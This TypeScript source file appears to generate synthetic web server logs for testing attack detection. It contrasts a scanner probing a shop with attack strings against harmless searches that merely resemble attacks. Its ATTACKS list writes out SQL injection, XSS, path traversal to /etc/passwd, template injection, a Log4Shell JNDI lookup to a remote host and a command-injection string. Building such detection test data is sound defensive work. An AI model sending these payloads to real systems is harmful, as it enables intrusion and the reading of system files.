import type { Requester } from '../journal.ts';
import { NONE, type Printable, printable, printed } from '../printable.ts';
import { pick, weighted } from '../random.ts';
import { requester } from '../requester.ts';
import { hostileAddress, residentialAddress } from '../world/addresses.ts';
import { chooseAgent } from '../world/agents.ts';
import { chooseWindow, createLabel, type PlanScenario, steadySurge } from './scenario.ts';

const SURGE = 0.3;
const USER_AGENT = printed`Mozilla/5.0 (compatible; webtest/3.1)`;
const query = (text: string): Printable => printable(encodeURIComponent(text).replaceAll('%20', '+'));

/** What is tried, after OWASP's Web Security Testing Guide 4.7. */
const ATTACKS: readonly Printable[] = [
  "1' or '1'='1",
  "1' and sleep(5)-- -",
  '1 union select null,null,version()',
  '1 and 1=2',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '{{7*7}}',
  '${jndi:ldap://198.51.100.99/a}',
  ';cat /etc/passwd',
].map(query);
const PATHS = ['/search?q=', '/api/v2/search?q=', '/help/contact?topic=', '/c/sale?sort='].map(printable);
/** A firewall refuses some, most are answered with a page, and some break it. */
const chooseStatus = weighted<number>([
  [200, 60],
  [403, 30],
  [500, 10],
]);

/** A scanner tries what the shop does with attack strings, and the shop answers. */
export const planAttackStrings: PlanScenario = ({ stage, span, strength }) => {
  const { random, journal } = stage;
  const window = chooseWindow(random, span, 0.4, 0.012);
  const client = requester('attack-strings', hostileAddress(random), USER_AGENT);
  return {
    label: createLabel('attack-strings', window, { culprits: [{ field: 'source.ip', values: [client.address] }] }),
    surge: steadySurge(window, SURGE * strength),
    begin(startMillis) {
      const target = printed`${pick(random, PATHS)}${pick(random, ATTACKS)}`;
      journal.request(client, {
        timeMillis: startMillis,
        method: 'GET',
        target,
        status: chooseStatus(random),
        bytes: 9_211,
        referrer: NONE,
      });
    },
  };
};

const ODD_SEARCHES: readonly Printable[] = [
  "o'reilly",
  "rock'n'roll shirt",
  'select shoes from the sale',
  'drop table tennis',
  'union jack',
  "5' or 6' ladder",
  '"waterproof" or "windproof"',
  'tents (2 or 3 persons)',
  'a < b and c > d',
  'cat; dog',
  '50% off -- today',
  '{{name}}',
].map(query);

/** A bookseller's terminal, at which people look for odd words. */
export const planOddSearches: PlanScenario = ({ stage, span }) => {
  const { random, journal } = stage;
  const window = chooseWindow(random, span, 0.4, 0.1);
  const client: Requester = {
    format: 'apache_combined',
    address: residentialAddress(random),
    user: NONE,
    protocol: 'HTTP/2.0',
    userAgent: chooseAgent(random).text,
    scenario: 'odd-searches',
  };
  return {
    label: createLabel('odd-searches', window, { culprits: [{ field: 'source.ip', values: [client.address] }] }),
    surge: steadySurge(window, 0.04),
    begin(startMillis) {
      const target = printed`/search?q=${pick(random, ODD_SEARCHES)}`;
      journal.request(client, {
        timeMillis: startMillis,
        method: 'GET',
        target,
        status: 200,
        bytes: 9_211,
        referrer: NONE,
      });
    },
  };
};
